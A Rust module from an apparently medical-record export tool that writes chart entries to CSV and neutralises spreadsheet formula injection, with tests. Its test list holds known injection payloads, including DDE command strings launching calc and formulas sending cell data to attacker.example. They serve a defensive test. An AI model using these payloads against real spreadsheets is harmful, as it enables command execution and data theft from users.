//! A table for a spreadsheet (RFC 4180), which no cell can turn into a program.
//!
//! Spreadsheets take a cell that begins with `=`, `+`, `-` or `@` for a formula (CWE-1236), and one that
//! was told another separator than the file has takes what stands behind a `;`, a tab or a line break
//! for the beginning of a cell. At each such place an apostrophe goes before these characters, and
//! before an apostrophe, so that taking one away there gives back what was sent. A cell that is a FHIR
//! decimal as a whole, such as `-5`, is a number and stays one.

use std::io::{self, Write};

use chart::{Coded, Entry, PartialDate, Standing, Value};
use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};

use crate::about::name;
use crate::outcome::chosen;
use crate::{About, Written};

/// The heads of the columns, in their order. New ones come at the end.
pub const COLUMNS: [&str; 23] = [
    "date",
    "end",
    "title",
    "part",
    "code",
    "comparator",
    "value",
    "unit",
    "flag",
    "range_low",
    "range_high",
    "range_text",
    "detail",
    "status",
    "verification",
    "standing",
    "states_absence",
    "severity",
    "category",
    "source",
    "warnings",
    "type",
    "key",
];

/// What tells a spreadsheet that the text is UTF-8.
const BYTE_ORDER_MARK: &[u8] = b"\xef\xbb\xbf";

/// Writes a table of entries: a row each, and a row for each part of one that has parts. With `marked`,
/// the byte order mark goes before it, which Excel needs.
///
/// # Errors
/// As `out` does. What was written by then is no copy.
pub fn write_table(
    mut out: impl Write,
    marked: bool,
    entries: impl Iterator<Item = Entry>,
) -> io::Result<Written> {
    if marked {
        out.write_all(BYTE_ORDER_MARK)?;
    }
    let mut table = writer(out);
    table.write_record(COLUMNS)?;
    let mut written = Written::default();
    for entry in entries {
        let whole = entry.value.as_ref();
        table.write_record(row(&entry, None, whole).map(|cell| protected(&cell)))?;
        for part in &entry.components {
            let cells = row(&entry, part.title.as_ref(), part.value.as_ref());
            table.write_record(cells.map(|cell| protected(&cell)))?;
        }
        written.entries += 1;
    }
    table.flush()?;
    Ok(written)
}

/// Writes what the tables of a copy are: a name and a value in each row. `facts` come first.
///
/// # Errors
/// As `out` does.
pub fn write_about(
    mut out: impl Write,
    marked: bool,
    about: &About,
    facts: &[(&str, String)],
) -> io::Result<()> {
    if marked {
        out.write_all(BYTE_ORDER_MARK)?;
    }
    let mut table = writer(out);
    table.write_record(["what", "value"])?;
    let mut line = |what: &str, value: &str| table.write_record([what, &protected(value)]);
    for (what, value) in facts {
        line(what, value)?;
    }
    line("server", &about.server)?;
    line("as_of", about.as_of.as_deref().unwrap_or_default())?;
    line("made", &about.made)?;
    line("program", &format!("Chartside {}", about.version))?;
    line("chosen", &chosen(about))?;
    line("whole_record", if about.is_whole() { "yes" } else { "no" })?;
    for gap in &about.gaps {
        line("missing", &gap.line())?;
    }
    table.flush()
}

fn writer<Out: Write>(out: Out) -> Writer<Out> {
    WriterBuilder::new()
        .quote_style(QuoteStyle::Always)
        .terminator(Terminator::CRLF)
        .from_writer(out)
}

/// The cells in the order of [`COLUMNS`]; `part` is a component of the entry.
fn row(entry: &Entry, part: Option<&Coded>, value: Option<&Value>) -> [String; COLUMNS.len()] {
    let text = |text: &Option<String>| text.clone().unwrap_or_default();
    let date = |date: &Option<PartialDate>| date.as_ref().map(|date| date.raw.clone());
    let of_value = |read: fn(&Value) -> Option<&str>| value.and_then(read).map(str::to_owned);
    let range = |read: fn(&chart::Range) -> &Option<String>| {
        let range = value.and_then(|value| value.range.as_ref());
        range.map(read).and_then(Clone::clone)
    };
    let code = part.or(entry.title.as_ref());
    let cells = [
        date(&entry.date),
        date(&entry.end),
        entry.title.as_ref().map(|title| title.text.clone()),
        part.map(|title| title.text.clone()),
        code.and_then(|title| title.code.clone()),
        of_value(|value| value.comparator.as_deref()),
        of_value(|value| Some(&value.text)),
        of_value(|value| value.unit.as_deref()),
        of_value(|value| value.flag.as_deref()),
        range(|range| &range.low),
        range(|range| &range.high),
        range(|range| &range.text),
        Some(text(&entry.detail)),
        Some(text(&entry.status)),
        Some(text(&entry.verification)),
        Some(standing(entry.standing).to_owned()),
        Some(if entry.absence { "yes" } else { "" }.to_owned()),
        Some(text(&entry.severity)),
        Some(text(&entry.category)),
        Some(text(&entry.source)),
        Some(warnings(entry)),
        Some(entry.resource_type.clone()),
        Some(entry.key.clone()),
    ];
    cells.map(Option::unwrap_or_default)
}

fn standing(standing: Standing) -> &'static str {
    match standing {
        Standing::Current => "current",
        Standing::Historical => "historical",
        Standing::Tentative => "tentative",
        Standing::NotAFact => "NOT A FACT",
        Standing::Unknown => "unknown",
    }
}

fn warnings(entry: &Entry) -> String {
    let warnings: Vec<String> = entry.warnings.iter().map(name).collect();
    warnings.join(" ")
}

/// A cell that no spreadsheet takes for a formula.
///
/// ```
/// use chart_export::protected;
/// assert_eq!(protected("=1+1"), "'=1+1");
/// assert_eq!(protected("-5"), "-5");
/// assert_eq!(protected("a;=1+1"), "a;'=1+1");
/// ```
pub fn protected(cell: &str) -> String {
    if is_decimal(cell) {
        return cell.to_owned();
    }
    let mut safe = String::with_capacity(cell.len() + 1);
    let mut before = None;
    for letter in cell.chars() {
        if is_guarded(before, letter) {
            safe.push('\'');
        }
        safe.push(letter);
        before = Some(letter);
    }
    safe
}

/// With what a formula begins, wide forms included; at the very beginning also what spreadsheets throw
/// away before they look. And an apostrophe, so that each one of ours can be told from one that was sent.
fn is_guarded(before: Option<char>, letter: char) -> bool {
    let begins_formula = matches!(
        letter,
        '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '\''
    );
    match before {
        None => begins_formula || matches!(letter, '\t' | '\r' | '\n' | '\0'),
        Some(before) => begins_formula && ends_a_cell(before),
    }
}

fn ends_a_cell(letter: char) -> bool {
    matches!(letter, ';' | '\t' | '\r' | '\n')
}

/// A whole cell of the form of `decimal` (FHIR R4 §2.24.0.1), with the exponent that servers send.
fn is_decimal(cell: &str) -> bool {
    let unsigned = cell.strip_prefix('-').unwrap_or(cell);
    let (number, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((number, exponent)) => (number, Some(exponent)),
        None => (unsigned, None),
    };
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let is_number = match number.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(number),
    };
    let is_exponent = exponent
        .is_none_or(|exponent| digits(exponent.strip_prefix(['+', '-']).unwrap_or(exponent)));
    is_number && is_exponent
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn t39_no_payload_that_is_known_stays_a_formula() {
        for payload in [
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://attacker.example?leak=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://attacker.example?v=\",A2),\"//a\")",
            "=WEBSERVICE(\"http://attacker.example\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "\0=1+1",
            "-",
            "-1.",
            "-.5",
            "--1",
            "-1 mg",
            "+5",
            "-1-1",
            "-1e",
            "'=1+1",
        ] {
            assert!(protected(payload).starts_with('\''), "{payload:?}");
        }
        assert_eq!(protected("harmless;=1+1"), "harmless;'=1+1");
        assert_eq!(protected("a\r\n- b"), "a\r\n'- b");
    }

    #[test]
    fn a_decimal_stays_as_it_was_sent() {
        for number in ["-5", "0", "-0.10", "7.40", "1.0E1", "1e-7", "-12E+3"] {
            assert_eq!(protected(number), number);
        }
        assert_eq!(protected("2019-03"), "2019-03");
        assert_eq!(protected("< 5; positive"), "< 5; positive");
    }

    /// Takes away what [`protected`] adds.
    fn as_sent(cell: &str) -> String {
        let mut sent = String::new();
        let mut letters = cell.chars().peekable();
        while let Some(letter) = letters.next() {
            let before = sent.chars().last();
            let next = letters.peek().copied();
            let is_ours = letter == '\'' && next.is_some_and(|next| is_guarded(before, next));
            if is_ours {
                sent.extend(letters.next());
            } else {
                sent.push(letter);
            }
        }
        sent
    }

    proptest! {
        #[test]
        fn t39_no_cell_begins_a_formula_whatever_separates_cells(cell in "[=+@'; \t\r\n0-9a.eE-]{0,12}") {
            let safe = protected(&cell);
            if !is_decimal(&cell) {
                for piece in safe.split([';', '\t', '\r', '\n']) {
                    prop_assert!(!piece.starts_with(['=', '+', '-', '@']), "{safe:?}");
                }
            }
            prop_assert_eq!(as_sent(&safe), cell);
        }
    }
}
